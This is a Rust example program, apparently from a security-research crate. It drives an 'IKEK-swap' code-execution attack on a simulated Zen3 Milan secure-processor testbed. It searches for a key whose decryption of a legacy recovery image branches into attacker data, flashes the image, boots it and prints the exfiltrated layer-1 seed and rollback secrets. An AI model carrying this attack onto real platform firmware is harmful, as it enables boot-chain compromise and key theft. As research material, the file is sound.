// Licensed under the Apache-2.0 license

//! IKEK-swap code execution: search for a candidate IKEK whose decryption
//! of the legacy recovery image starts with a branch into attacker data,
//! flash it and boot.
//!
//! `cargo run --release --example milanlaunchy -- 20` raises the prefix length.

use aspforge::attack::{exfil_payload, parse_exfil, run_milanlaunchy, MilanLaunchyOptions, MILANLAUNCHY_PAYLOAD_ID};
use aspforge::boot::PayloadRegistry;
use aspforge::firmware::AuthScheme;
use aspforge::platform::{ScenarioConfig, Testbed};

fn main() -> Result<(), Box<dyn std::error::Error>> {
    let bits = std::env::args().nth(1).map(|s| s.parse()).transpose()?.unwrap_or(16);
    let mut tb = Testbed::new(ScenarioConfig::new(AuthScheme::Zen3Milan, 3))?;
    let legacy = tb.legacy_recovery()?;
    let hooks = PayloadRegistry::new().with(MILANLAUNCHY_PAYLOAD_ID, exfil_payload);
    let opts = MilanLaunchyOptions {
        match_bits: bits,
        rng_seed: 3,
        max_trials: None,
    };
    let run = run_milanlaunchy(&mut tb.platform, &legacy, &tb.world.bootrom_key, &hooks, opts)?;
    let s = &run.plan.search;
    println!("{bits}-bit prefix found after {} trials", s.trials);
    println!("ikek {} first word {:#010x}", hex::encode(s.ikek), s.first_word);
    println!("branch target {}, sled {} octets", s.branch_target.map_or("-".into(), |t| format!("{t:#x}")), run.plan.layout.sled_len);
    println!("code exec: {:?}", run.outcome.code_exec_event);
    if let Some((l1, rb)) = parse_exfil(&run.outcome.dram_out) {
        println!("layer-1 seed {} rollback {:?}", hex::encode(l1), rb.map(hex::encode));
    }
    Ok(())
}
